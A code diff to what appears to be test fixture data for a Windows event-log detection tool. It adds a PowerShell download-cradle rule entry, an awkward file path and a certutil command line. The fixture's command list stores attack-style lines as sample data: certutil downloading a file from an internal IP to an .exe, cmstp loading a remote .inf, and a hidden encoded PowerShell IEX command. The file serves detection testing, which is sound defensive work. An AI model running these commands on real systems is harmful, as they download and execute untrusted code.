@@ -45,17 +45,20 @@ RULES = [
     ("Failed Network Logon", "", "low", ("T1110",)),
     ("Process Without Svchost Parent", "0f6e6d8c-2b1e-4a63-9d55-6f0b2f0a0003", "informational", ()),
     ("Legacy Vendor Rule", "7a0f1c12-9b4e-4c4e-8a30-7d1b2f6e0e55", "unknown", ("T1059.001", "T1059.001")),
+    ('PowerShell "IEX", Download Cradle', "85b0b087-eddf-4a2b-b033-d771fa2b9775", "high", ("T1059.001",)),
 ]
 ROUTES = ("windows/process_creation:sysmon-1", "windows/process_creation:security-4688",
           "windows/security:4625", "windows/system:7045")
 HOSTS = ("WKS-FIN-042.corp.example.com", "SRV-DC-01.corp.example.com", None)
-FILES = ("C:\\cases\\IR-2024-031\\wks-fin-042\\Sysmon.evtx", "C:\\cases\\IR-2024-031\\srv-dc-01\\Security.evtx")
+FILES = ("C:\\cases\\IR-2024-031\\wks-fin-042\\Sysmon.evtx", "C:\\cases\\IR-2024-031\\srv-dc-01\\Security.evtx",
+         "/cases/IR-2024-031/exports, 2nd pass/dc02.evtx")
 COMMANDS = (
     ("cmstp.exe", "cmstp.exe /ni /s https://raw.githubusercontent.com/op7ic/EDR-Testing-Script/master/Payloads/"
                   "Cmstp.inf"),
     ("WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoP -W Hidden -EncodedCommand "
                                                 "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA="),
     ("cmd.exe", 'cmd.exe /c "echo 100%_done, all\tgood > C:\\Temp\\status.txt"'),
+    ("certutil.exe", "certutil.exe -urlcache -split -f http://10.20.30.40/a.txt C:\\Temp\\a.exe\r\n "),
     ("rundll32.exe", "rundll32.exe C:\\Users\\José\\AppData\\Local\\Temp\\报告.dll,DllRegisterServer\nsecond"),
 )
 
